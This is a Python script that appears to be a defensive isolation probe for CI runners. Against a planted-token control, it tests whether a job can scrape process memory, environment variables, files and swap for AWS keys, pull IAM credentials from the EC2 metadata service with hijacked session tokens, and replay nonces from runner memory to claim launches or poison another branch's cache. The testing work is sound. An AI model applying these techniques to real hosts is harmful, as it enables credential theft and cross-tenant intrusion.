# What a job finds on its instance when it may do everything there, as one may who can use Docker. Prints one JSON object a
# line, each after `@@row `: an attempt, what of ours it found, and what of the same kind it found that was planted for it.
# What it is told comes backwards, and nothing that is looked for is written here as it is: else the job's own text and variables,
# which its runner has in memory, would be found.
import glob
import json
import os
import re
import secrets
import stat
import subprocess
import sys
import urllib.error
import urllib.request

# A launch of this stack that runs meanwhile and is another job's.
OTHER = os.environ["OTHER_LAUNCH_BACKWARDS"][::-1]
LANE = os.environ["LANE_TOKEN_BACKWARDS"][::-1].encode()
PLANTED = b"glr" + b"t-planted" + secrets.token_hex(8).encode()
PLANTED_KEY = b"ASI" + b"A" + secrets.token_hex(8).upper().encode()
KEY = re.compile(b"ASI" + b"A[0-9A-Z]{16}(?![0-9A-Z])")
SESSION = re.compile(b"(?:FwoGZ" + b"X|IQoJb3" + b"J)[0-9A-Za-z+/=]{60,}")
# A signed URL names who signed it, by half of a key: that opens nothing but the URL.
SIGNER = re.compile(rb"X-Amz-(?:Credential|Security-Token)=[^&\s\"']*")
HEX64 = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")
LAUNCH = re.compile(rb"(?<![0-9a-z])l-[0-9a-f]{20}(?![0-9a-f])")
OURS, THEIRS = {"lane token", "role key", "role session", "nonce", "cache URL"}, {"planted token", "planted key"}
# Longest file and region of memory that is read, and how much at once.
FILE, REGION, PART = 8 << 20, 256 << 20, 4 << 20
# Longer than whatever is looked for.
OVERLAP = 4096
PLACES = ["/tmp", "/var", "/run", "/home", "/root", "/srv", "/mnt", "/work", "/dev/shm", "/runnerless"]
# GitLab ends a key with what the branch is. The other one is what a job of the one must not fill for jobs of the other.
ENDS = ["-protected", "-non_protected"]
OWN_CACHE, OTHER_CACHE = ("probe" + end for end in (ENDS if os.environ.get("CI_COMMIT_REF_PROTECTED") == "true" else ENDS[::-1]))
FOLDER = os.path.dirname(os.path.abspath(__file__))


def kinds(data):
    found = set()
    data = SIGNER.sub(b"", data)
    if LANE in data:
        found.add("lane token")
    if PLANTED in data:
        found.add("planted token")
    for key in KEY.findall(data):
        found.add("planted key" if key == PLANTED_KEY else "role key")
    if SESSION.search(data):
        found.add("role session")
    return found


def said(error):
    if isinstance(error, urllib.error.HTTPError):
        return f"HTTP status {error.code}"
    return str(getattr(error, "reason", None) or getattr(error, "strerror", None) or error)


def tried(act):
    try:
        return act(), None
    except (OSError, LookupError) as error:
        return set(), said(error)


def row(attempt, ours, control):
    found, error = tried(ours)
    planted, control_error = tried(control)
    print("@@row " + json.dumps({
        "attempt": attempt, "error": error, "found": sorted(found & OURS),
        "control": {"error": control_error, "found": sorted(planted & THEIRS)},
    }), flush=True)


# One scan comes upon both: what is ours, and what the victim holds.
def scan(attempt, act):
    found, error = tried(act)
    row_of = lambda: found if error is None else raised(error)
    row(attempt, row_of, row_of)


def raised(words):
    raise OSError(0, words)


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def others():
    return [pid for pid in processes() if pid != os.getpid()]


def read(path, most=FILE):
    with open(path, "rb") as file:
        return file.read(most)


# Of all processes; one that is gone, or is not ours to read, is none.
def of_processes(name, pids):
    found = set()
    for pid in pids:
        try:
            found |= kinds(read(f"/proc/{pid}/{name}"))
        except OSError:
            pass
    return found


def regions(pid, anonymous):
    for line in read(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
        fields = line.split(maxsplit=5)
        first, last = (int(end, 16) for end in fields[0].split("-"))
        name = fields[5] if len(fields) > 5 else ""
        if fields[1].startswith("r") and last - first <= REGION and not name.startswith("[v"):
            if not anonymous or not name.startswith("/"):
                yield first, last


def memory(pid, look, anonymous=False):
    found = set()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        for first, last in regions(pid, anonymous):
            for at in range(first, last, PART):
                try:
                    file.seek(at)
                    found |= look(file.read(min(PART + OVERLAP, last - at)))
                except (OSError, OverflowError):
                    break
    return found


def of_memories(look, pids, anonymous=False):
    found = set()
    for pid in pids:
        try:
            found |= memory(pid, look, anonymous)
        except OSError:
            pass
    return found


# What processes have open, also what nobody can name any more.
def open_files():
    found = set()
    for pid in others():
        for path in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                if stat.S_ISREG(os.stat(path).st_mode):
                    found |= kinds(read(path))
            except OSError:
                pass
    return found


def files(wanted):
    found = set()
    for place in PLACES:
        for folder, _, names in os.walk(place):
            for path in (os.path.join(folder, name) for name in names if wanted(name)):
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        found |= kinds(read(path))
                except OSError:
                    pass
    return found


def swap(table):
    found = set()
    for line in read(table).decode().splitlines()[1:]:
        found |= kinds(read(line.split()[0], REGION))
    return found


def call(method, url, headers=(), body=None):
    request = urllib.request.Request(url, data=body, headers=dict(headers), method=method)
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=10) as answer:
        return answer.read()


def credentials(endpoint, headers):
    base = f"{endpoint}/latest/meta-data/iam/security-credentials/"
    role = call("GET", base, headers).decode().split()[0]
    return kinds(call("GET", base + role, headers))


def with_session(endpoint):
    ttl = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    token = call("PUT", f"{endpoint}/latest/api/token", ttl).decode()
    return credentials(endpoint, {"X-aws-ec2-metadata-token": token})


# Sessions that others began: whatever in their memory looks like one.
def with_old_sessions(endpoint):
    last = OSError(0, "nothing that looks like a session")
    for token in sorted(CANDIDATES):
        try:
            return credentials(endpoint, {"X-aws-ec2-metadata-token": token.decode()})
        except OSError as error:
            last = error
    raise last


def post(url, body, headers=()):
    return call("POST", url, {"Content-Type": "application/json", **dict(headers)}, json.dumps(body).encode())


# A request that is signed with a key of the right form, which nobody gave out.
MADE_UP = {
    "X-Amz-Date": "20260101T000000Z",
    "Authorization": "AWS4-HMAC-SHA256 Credential=" + "ASI" + "A0123456789ABCDEF/20260101/us-east-1/execute-api/aws4_request, "
    "SignedHeaders=host;x-amz-date, Signature=" + "0" * 64,
}


def begin(base, headers=()):
    return kinds(post(base + "/claim", {"do": "begin", "launch": LAUNCH_ID, "claim": "guessed"}, headers))


def speak(base, launch, nonce):
    return kinds(post(base + "/launch", {"do": "renew", "launch": launch, "nonce": nonce}))


# Any 64 hexadecimal digits in a runner's memory: one of them speaks for the launch.
def with_any_nonce(act):
    last = OSError(0, "nothing that looks like a nonce")
    for nonce in sorted(CANDIDATES):
        try:
            return act(nonce.decode())
        except OSError as error:
            last = error
            if getattr(error, "code", None) == 409:
                break  # It is the nonce, and what it is to do is refused.
    raise last


# Then that is what was found.
def nonces(base, launch=None):
    return with_any_nonce(lambda nonce: speak(base, launch or LAUNCH_ID, nonce) | {"nonce"})


# A URL by which the job could fill the cache of this key.
def cache(base, key):
    word = {"do": "cache", "what": "save", "key": key, "launch": LAUNCH_ID}
    answer = with_any_nonce(lambda nonce: post(base + "/launch", {**word, "nonce": nonce}))
    return kinds(answer) | ({"cache URL"} if json.loads(answer).get("url") else set())


def program(pid):
    try:
        return os.path.basename(os.readlink(f"/proc/{pid}/exe"))
    except OSError:
        return None


def environment_of(pid):
    pairs = (pair.partition(b"=") for pair in read(f"/proc/{pid}/environ").split(b"\0"))
    return {name.decode(): value.decode(errors="replace") for name, _, value in pairs}


victim = subprocess.Popen(
    [sys.executable, os.path.join(FOLDER, "victim.py")], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    env={"PATH": os.environ["PATH"], "PLANTED_TOKEN": PLANTED.decode(), "PLANTED_KEY": PLANTED_KEY.decode()},
)
PORT = victim.stdout.readline().decode().strip()
CONTROL = f"http://127.0.0.1:{PORT}"
runners = [pid for pid in others() if program(pid) == "runnerless-runner"]
CANDIDATES = of_memories(lambda part: set(HEX64.findall(part)), runners, anonymous=True)
CANDIDATES = set(sorted(CANDIDATES)[:400])
seen = [environment_of(pid) for pid in runners]
METADATA = next((env[name] for env in seen for name in ["AWS_EC2_METADATA_SERVICE_ENDPOINT"] if env.get(name)), "")
words = [read(f"/proc/{pid}/cmdline").split(b"\0") for pid in runners]
CLAIM = next((line[line.index(b"--claim-url") + 1].decode() for line in words if b"--claim-url" in line), "")
BASE = CLAIM.removesuffix("/claim")
launches = of_memories(lambda part: set(LAUNCH.findall(part)), runners, anonymous=True)
LAUNCH_ID = next(iter(sorted(launches)), b"none").decode()
print(f"runners {runners}, {len(CANDIDATES)} candidates, metadata {METADATA}, claim {CLAIM}, launches {len(launches)}", flush=True)
if not (runners and METADATA and BASE and launches):
    sys.exit("the probe does not find its way: it needs a runner, its metadata endpoint, its claim URL and its launch")

scan("environment of every process", lambda: of_processes("environ", processes()))
scan("command line of every process", lambda: of_processes("cmdline", others()))
scan("memory of every process", lambda: of_memories(kinds, others()))
scan("open files of every process, deleted and anonymous ones too", open_files)
scan("files of everybody", lambda: files(lambda name: True))
scan("core files", lambda: files(lambda name: "core" in name))
row("swap", lambda: swap("/proc/swaps"), lambda: swap("/tmp/planted-swaps"))
row("metadata service, without a session", lambda: credentials(METADATA, {}), lambda: credentials(CONTROL, {}))
row("metadata service, with a new session", lambda: with_session(METADATA), lambda: with_session(CONTROL))
row("metadata service, with a session of the runner's", lambda: with_old_sessions(METADATA), lambda: with_old_sessions(CONTROL))
row("POST /claim, unsigned", lambda: begin(BASE), lambda: begin(CONTROL))
row("POST /claim, signed with a key that is made up", lambda: begin(BASE, MADE_UP), lambda: begin(CONTROL, MADE_UP))
row("POST /launch, with a nonce that is guessed", lambda: speak(BASE, LAUNCH_ID, "0" * 64), lambda: speak(CONTROL, LAUNCH_ID, "0" * 64))
row("POST /launch, with what looks like a nonce in the runner's memory", lambda: nonces(BASE), lambda: nonces(CONTROL))
row("POST /launch, with the same for another launch", lambda: nonces(BASE, OTHER), lambda: nonces(CONTROL, OTHER))
row("POST /launch, with that nonce for a cache that the job names", lambda: cache(BASE, OWN_CACHE), lambda: cache(CONTROL, OWN_CACHE))
row("POST /launch, with that nonce for the same cache of other branches", lambda: cache(BASE, OTHER_CACHE), lambda: cache(CONTROL, OTHER_CACHE))
victim.stdin.close()
victim.wait()
